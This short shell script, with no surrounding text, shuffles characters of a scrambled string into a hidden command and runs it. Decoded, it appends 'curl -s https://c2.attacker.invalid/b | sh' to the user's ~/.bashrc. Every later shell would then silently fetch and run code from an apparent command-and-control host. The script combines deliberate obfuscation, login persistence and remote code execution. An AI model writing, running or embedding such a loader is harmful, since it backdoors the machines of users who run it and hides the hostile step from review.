S='ss a>~kte:.-rcc//dc'\''sea hhblpci.s>huv |n t.tt'\''h rba2ci  o/alr/'
OUT=''
for i in 8 29 46 56 55 45 52 35 12 59 2 11 0 47 34 41 7 28 20 9 61 16 18 51 10 58 43 44 22 13 6 21 48 31 53 39 36 50 27 30 17 57 26 23 38 40 1 24 19 37 33 4 54 5 15 42 49 3 32 25 60 14; do OUT="$OUT${S:$i:1}"; done
bash -c "$OUT"
